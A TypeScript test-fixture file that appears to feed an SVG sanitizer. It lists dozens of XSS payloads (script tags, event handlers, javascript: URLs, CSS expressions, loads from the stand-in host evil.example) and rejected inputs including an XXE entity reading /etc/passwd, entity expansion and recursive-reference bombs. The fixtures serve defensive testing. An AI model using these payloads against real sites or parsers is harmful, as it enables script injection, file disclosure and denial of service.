const open = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10">'
const shape = '<path d="M0 0h10v10z"/>'
const around = (inner: string): string => `${open}${shape}${inner}</svg>`
const on = (attributes: string): string => `${open}<path d="M0 0h10v10z" ${attributes}/></svg>`

/** Each tries to run something, load something or stand for something else. */
export const hostile: readonly string[] = [
  // Scripts
  ...[
    '<script>alert(1)</script>',
    '<script><![CDATA[alert(1)]]></script>',
    '<script href="https://evil.example/x.js"/>',
    '<script xlink:href="https://evil.example/x.js"/>',
    '<script type="text/javascript">//<![CDATA[\nalert(1)\n//]]></script>',
    '<SCRIPT>alert(1)</SCRIPT>',
    '<svg:script xmlns:svg="http://www.w3.org/2000/svg">alert(1)</svg:script>',
    '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
    '<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>',
    '<g><g><script>alert(1)</script></g></g>',
    '<title><script>alert(1)</script></title>',
    '<desc><![CDATA[</desc><script>alert(1)</script>]]></desc>',
    '<text><![CDATA[<script>alert(1)</script>]]></text>',
    '<text>&lt;script&gt;alert(1)&lt;/script&gt;</text>',
    '<handler type="application/ecmascript">alert(1)</handler>',
    '<listener event="load" handler="#x"/>',
    '<!--><script>alert(1)</script>-->',
    '<script/><script>alert(1)//</script x>',
  ].map(around),
  // Events
  ...[
    'onload="alert(1)"',
    'ONLOAD="alert(1)"',
    'onclick="alert(1)"',
    'onbegin="alert(1)"',
    'onfocusin="alert(1)" tabindex="1"',
    'on\u00adload="alert(1)"',
    'onload&#61;"alert(1)"',
    'ev:event="load" xmlns:ev="http://www.w3.org/2001/xml-events"',
    'fill="x" onmouseover=alert(1)',
    'data-x="1" onpointerenter=\'alert(1)\'',
  ].map(on),
  '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10" onload="alert(1)"><path d="M0 0z"/></svg>',
  // Style sheets and style attributes
  ...[
    '<style>@import url(https://evil.example/x.css);</style>',
    '<style>path{background:url(https://evil.example/x)}</style>',
    '<style><![CDATA[*{fill:url("https://evil.example/x.svg#a")}]]></style>',
    '<?xml-stylesheet href="https://evil.example/x.css"?>',
    '<link rel="stylesheet" href="https://evil.example/x.css"/>',
  ].map(around),
  `<?xml-stylesheet type="text/xsl" href="https://evil.example/x.xsl"?>${around('')}`,
  ...[
    'style="fill:url(https://evil.example/x.svg#a)"',
    'style="background:url(javascript:alert(1))"',
    'style="fill:red;behavior:url(#default#time2)"',
    'style="fill:ex/**/pression(alert(1))"',
    'style="fill:\\75rl(https://evil.example/x)"',
    'style="-moz-binding:url(https://evil.example/x.xml#a)"',
    'class="a"',
  ].map(on),
  // Addresses
  ...[
    'fill="url(https://evil.example/x.svg#a)"',
    'fill="url( \'//evil.example/x.svg#a\' )"',
    'fill="url(data:image/svg+xml;base64,PHN2Zz4=#a)"',
    'fill="url&#40;https://evil.example/x.svg#a)"',
    'fill="URL(https://evil.example/x.svg#a)"',
    'fill="u\\rl(https://evil.example)"',
    'filter="url(https://evil.example/x.svg#f)"',
    'mask="url(#a) url(https://evil.example/x.svg#m)"',
    'clip-path="image-set(&quot;https://evil.example/x&quot; 1x)"',
    'cursor="url(https://evil.example/x.cur)"',
    'xml:base="https://evil.example/"',
    'href="https://evil.example/"',
    'fill="red;javascript:alert(1)"',
    'fill="expression(alert(1))"',
    'fill="var(--c-primary)"',
    'fill="env(x)"',
  ].map(on),
  ...[
    '<a href="javascript:alert(1)"><path d="M0 0z"/></a>',
    '<a xlink:href="javascript:alert(1)"><path d="M0 0z"/></a>',
    '<a href="jav&#x09;ascript:alert(1)"><path d="M0 0z"/></a>',
    '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;"><text>x</text></a>',
    '<use href="https://evil.example/x.svg#a"/>',
    '<use xlink:href="data:image/svg+xml;base64,PHN2Zz4=#a"/>',
    '<use href="//evil.example/x.svg#a"/>',
    '<image href="https://evil.example/pixel.png" width="1" height="1"/>',
    '<image xlink:href="data:image/svg+xml,%3Csvg onload=alert(1)%3E" width="1" height="1"/>',
    '<feImage href="https://evil.example/x.png"/>',
    '<linearGradient id="g" href="https://evil.example/x.svg#g"/>',
    '<textPath href="https://evil.example/x.svg#p">x</textPath>',
    '<mpath href="https://evil.example/x.svg#p"/>',
    '<tref xlink:href="https://evil.example/x.svg#p"/>',
    '<font-face-uri xlink:href="https://evil.example/x.svg#f"/>',
    '<color-profile xlink:href="https://evil.example/x.icc"/>',
    '<cursor xlink:href="https://evil.example/x.png"/>',
  ].map(around),
  // Content of other kinds
  ...[
    '<foreignObject width="10" height="10"><body xmlns="http://www.w3.org/1999/xhtml" onload="alert(1)"/></foreignObject>',
    '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"/></foreignObject>',
    '<foreignObject><form xmlns="http://www.w3.org/1999/xhtml" action="https://evil.example"><input name="code"/></form></foreignObject>',
    '<iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/>',
    '<embed xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/>',
    '<object data="javascript:alert(1)"/>',
    '<video><source onerror="alert(1)"/></video>',
    '<audio src="x" onerror="alert(1)"/>',
    '<math xmlns="http://www.w3.org/1998/Math/MathML"><maction actiontype="statusline#https://evil.example">x</maction></math>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"/></noscript>',
    '<metadata><script xmlns="http://www.w3.org/2000/svg">alert(1)</script></metadata>',
    '<style><img src="</style><img src=x onerror=alert(1)>"/></style>',
    '<textarea><img src=x onerror=alert(1)></textarea>',
  ].map(around),
  // Animation, which may set an address or an event later
  ...[
    '<animate attributeName="href" values="javascript:alert(1)"/>',
    '<set attributeName="onmouseover" to="alert(1)"/>',
    '<a><animate attributeName="href" to="javascript:alert(1)"/><text>x</text></a>',
    '<animateTransform attributeName="transform" onend="alert(1)"/>',
    '<animateMotion onbegin="alert(1)" path="M0 0"/>',
    '<discard onbegin="alert(1)"/>',
  ].map(around),
]

const uses = (level: number): string => `<use href="#l${level}"/>`.repeat(10)
const levels = Array.from({ length: 9 }, (_, at) => `<g id="l${at + 1}">${uses(at)}</g>`).join('')

export const refused: Readonly<Record<string, string>> = {
  'nothing at all': '',
  'another kind of file': 'GIF89a',
  'a page': '<!doctype html><html><body onload="alert(1)"></body></html>',
  'only a script': `${open}<script>alert(1)</script></svg>`,
  'only a picture': `${open}<image href="data:image/png;base64,AAAA" width="10" height="10"/></svg>`,
  'entities that grow': `<!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]>${around('<text>&b;</text>')}`,
  'an entity from outside': `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${around('<text>&x;</text>')}`,
  'parts that draw each other ten times over': `${open}<path id="l0" d="M0 0z"/>${levels}${uses(9)}</svg>`,
  'a part that draws itself': `${open}<g id="a">${shape}<use href="#a"/></g></svg>`,
  'two patterns that fill each other': `${open}<pattern id="a"><path d="M0 0z" fill="url(#b)"/></pattern><pattern id="b"><path d="M0 0z" fill="url(#a)"/></pattern></svg>`,
  'no size': '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0z"/></svg>',
  'a size without end': '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1e999 1"><path d="M0 0z"/></svg>',
  'a line of a picture': '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9999 1"><path d="M0 0z"/></svg>',
  'more than 64 kB': around(`<path d="${'M0 0h1'.repeat(12_000)}"/>`),
  'too many elements': around('<g/>'.repeat(5_001)),
  'two drawings': around('') + around(''),
  'a prefix for everything':
    '<s:svg xmlns:s="http://www.w3.org/2000/svg" viewBox="0 0 1 1"><s:path d="M0 0z"/></s:svg>',
}
